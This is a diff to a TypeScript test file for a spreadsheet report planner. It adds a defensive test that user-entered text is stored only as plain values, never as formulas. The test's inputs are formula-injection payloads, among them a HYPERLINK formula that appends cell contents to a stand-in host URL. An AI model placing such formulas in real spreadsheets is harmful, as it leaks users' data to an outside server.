@@ -27,11 +27,22 @@ describe('planning writes', () => {
     const kinds = ops.map((o) => o.op);
     expect(kinds[0]).toBe('addSheet');
     expect(kinds.filter((k) => k === 'formulas')).toHaveLength(1);
-    expect(kinds.indexOf('numberFormat')).toBeLessThan(kinds.indexOf('formulas'));
+    expect(kinds.indexOf('numberFormat')).toBeLessThan(kinds.indexOf('values'));
+    expect(kinds.indexOf('values')).toBeLessThan(kinds.indexOf('formulas'));
     // Far fewer style operations than cells.
     expect(kinds.filter((k) => k === 'style').length).toBeLessThan(120);
     const formulas = ops.find((o) => o.op === 'formulas')!;
     expect(formulas.op === 'formulas' && formulas.matrix.flat().filter((v) => typeof v === 'string' && v.startsWith('=IF(')).length).toBe(9);
+  });
+
+  it('writes user text only as values into text-formatted cells, and only the template’s formulas as formulas', () => {
+    const hostile = ['=HYPERLINK("http://x.example/"&A1,"Xem")', '+1+1', '-A1', '@SUM(A1)'];
+    const ops = planSheet({ ...buildTemplateSheet(getTemplate('BM03')!), cells: hostile.map((value, i) => ({ row: i, col: 0, value })) });
+    const values = ops.find((o) => o.op === 'values');
+    const formats = ops.find((o) => o.op === 'numberFormat');
+    expect(values?.op === 'values' && values.matrix.map((r) => r[0])).toEqual(hostile);
+    expect(formats?.op === 'numberFormat' && formats.matrix.map((r) => r[0])).toEqual(hostile.map(() => '@'));
+    expect(ops.some((o) => o.op === 'formulas')).toBe(false);
   });
 
   it('cuts a whole province’s consolidated workbook into batches under 5 MB', () => {
@@ -77,8 +88,8 @@ describe('planning a write into a workbook', () => {
     const ops = planWrite(holdingBoth, { sheets: [buildTemplateSheet(bm03)], metadata: [sheetMetadataFor(bm03, { period: '2024-H1' })], replace: true });
     expect(ops.filter((o) => o.op === 'deleteSheet').map((o) => o.op === 'deleteSheet' && o.sheet)).toEqual(['BM03', METADATA_SHEET]);
     expect(ops.filter((o) => o.op === 'deleteName').map((o) => o.op === 'deleteName' && o.name)).toEqual(['BM03_TT01_KQ']);
-    const meta = ops.find((o) => o.op === 'formulas' && o.sheet === METADATA_SHEET);
-    const recorded = meta?.op === 'formulas' ? parseMetadata(meta.matrix) : [];
+    const meta = ops.find((o) => o.op === 'values' && o.sheet === METADATA_SHEET);
+    const recorded = meta?.op === 'values' ? parseMetadata(meta.matrix) : [];
     expect(recorded.map((m) => [m.sheet, m.period])).toEqual([
       ['BM04', '2024-Q1'],
       ['BM03', '2024-H1'],
